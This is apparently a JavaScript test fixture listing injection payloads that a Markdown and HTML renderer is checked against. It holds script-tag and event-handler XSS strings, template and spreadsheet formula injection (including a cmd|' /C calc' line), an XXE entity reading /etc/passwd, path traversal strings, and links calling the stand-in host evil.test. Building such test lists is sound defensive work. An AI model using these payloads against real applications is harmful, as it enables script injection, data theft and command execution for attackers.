// Texts that try to become code, to fetch something, or to break out of the place they stand in.
// Each calls `hit(n)` or asks `evil.test` for something, so that whatever gets through is seen.

/** What a payload runs when it gets through: the page counts it. */
const RUN = 'window.__hit=(window.__hit||0)+1';
const FAR = 'https://evil.test/x';

/** Markup in text: tags, attributes, entities, comments, odd elements. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `"><img src=x onerror="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="${FAR}"></object>`,
  `<embed src="${FAR}">`,
  `<link rel=stylesheet href="${FAR}.css">`,
  `<meta http-equiv=refresh content="0;url=${FAR}">`,
  `<base href="${FAR}/">`,
  `<form action="${FAR}"><button>x</button></form>`,
  `<style>@import "${FAR}.css";*{background:url(${FAR})}</style>`,
  `<div style="background:url(${FAR})">x</div>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<x onclick=${RUN} tabindex=1 onfocus=${RUN} autofocus>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}`,
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus tabindex='1`,
  `\`onerror=${RUN}`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<!--><script>${RUN}</script>-->`,
  `<!--#include virtual="/etc/passwd"-->`,
  `<?php echo 1 ?><%= 1 %>`,
];

/** What templates, scripts, style sheets, feeds, calendars, tables and graphs read as their own. */
const FORMATS = [
  '{{ 7 * 7 }}{% for x in [1] %}a{% endfor %}',
  '{{ site | json_encode }}{{ get_env(name="PATH") }}',
  '${7*7}#{7*7}<%= 7*7 %>[[7*7]]',
  '{n} {title} {host} {0} %s %d %n',
  `=HYPERLINK("${FAR}";"x")`,
  `x;=cmd|' /C calc'!A0`,
  `+1;@SUM(1+1)*cmd|'x'!A0`,
  'a,"b",c;"d";|e|',
  'BEGIN:VEVENT END:VEVENT;X=1:2,3\\n\\N',
  'END:VCALENDAR\\r\\nBEGIN:VCALENDAR',
  ']]></content><entry><title>x</title></entry>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '"@id": "x", "@context": "https://evil.test/c"',
  '"} , {"@type":"Thing',
  '</script><!-- \\u2028 \\" \\\\ //',
  '" . <x> <y> """z""" ; # \\',
  '*/ } body{background:url(https://evil.test/x)} /*',
  '__proto__', 'constructor', 'toString', 'hasOwnProperty', '[object Object]', 'null', 'undefined', 'NaN',
  '../../../etc/passwd', '..\\..\\windows', '%2e%2e%2f%00', '//evil.test', '\\\\evil.test\\x',
  '?q=x&tema=y#z', '#', '?', '&amp;', '%', '%zz', '%3Cscript%3E',
  '(((((((((((((a+)+)+)+)+)+', '[a-', '*', '.*', '^$', '\\', '/x/',
  'ﬀ İ ı ſ ß Ǆ ﷽ ΅ K Å', '👨‍👩‍👧‍👦 🏳️‍🌈', 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞a̴̵̞l̶̢g̶o'.replaceAll('\u034f', ''),
  'x'.repeat(200), 'å '.repeat(60).trim(), '«»„“”‚‘’', 'שלום עולם', 'مرحبا بالعالم',
];

/** Markdown that leads out, nests what may not be nested, or looks like a structure of ours. */
export const MARKDOWN = [
  `![x](${FAR}.png)`,
  `![x](x.png "\\" onerror=${RUN}")`,
  `[x](https://skien.no@evil.test/) <https://skien.no@evil.test/>`,
  `[x](https://ks.no/" onclick="${RUN}) [y](https://ks.no/<script>)`,
  `[x]: ${FAR}\n\n[x] [x][] [y][x]`,
  `## <script>${RUN}</script> {#"><script>}`,
  `# __proto__\n\n## constructor\n\n## toString\n\n[a](#__proto__)`,
  '```"><script>\n</code></pre><script>' + RUN + '</script>\n```',
  '```js\n</script><script>' + RUN + '</script>\n```',
  '``` html onload=' + RUN + '\n<img src=x onerror=' + RUN + '>\n```',
  '`</code><script>' + RUN + '</script>`',
  `a[^"><script>]\n\n[^"><script>]: <script>${RUN}</script>`,
  `> [!NOTE]\n> <script>${RUN}</script>\n\n> [!"><script>]\n> x`,
  `- [ ] <input autofocus onfocus=${RUN}>\n- [x] "><script>${RUN}</script>`,
  `<details>\n<summary><img src=x onerror=${RUN}></summary>\n\n<script>${RUN}</script>\n\n</details>`,
  `<abbr title="&quot; onmouseover=&quot;${RUN}">x</abbr> <kbd onclick=${RUN}>y</kbd>`,
  `<sub style="background:url(${FAR})">x</sub> <br onload=${RUN}>`,
  `<p>\n<a href="javascript:${RUN}">x</a>\n</p>`,
  `<div><div><div><script>${RUN}</script>`,
  `<!-- <script>${RUN}</script> -->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `*a **b <i>c* d** e</i> ~~<s>f~~`,
  `<https://ks.no/?a="><script>${RUN}</script>>`,
  `<post@skien.no"onclick=x> <mailto:a@b.no?body=%3Cscript%3E>`,
  `Term\n: <script>${RUN}</script>\n\nhttp://evil.test/<script> www.evil.test`,
  '{{ 7 * 7 }} {% include "/etc/passwd" %} {{< ref "x" >}} !!! note "x"',
];

/** The same with links that no document may have: it is refused as a whole. */
export const REFUSED = [
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt&#58;${RUN})`,
  `[x](<java script:${RUN}>)`,
  `[x](data:text/html;base64,PHNjcmlwdD4x)`,
  `[x](vbscript:x) <javascript:${RUN}>`,
  `[x](//evil.test) [y](/\\evil.test) [z](\\\\evil.test)`,
  `[x][r]\n\n[r]: javascript:${RUN} "t"`,
  `## [x](javascript:${RUN}) \`<b>\` ![y](z.png)`,
  `| <script>${RUN}</script> | "><img src=x onerror=${RUN}> |\n| --- | :-: |\n| [x](javascript:x) | \`|\` \\| |`,
  `a[^1]\n\n[^1]: [x](javascript:x) <img src=x onerror=${RUN}>`,
];

/** Every text, for fields and for texts alike. */
export const TEXTS = [...MARKUP, ...FORMATS];
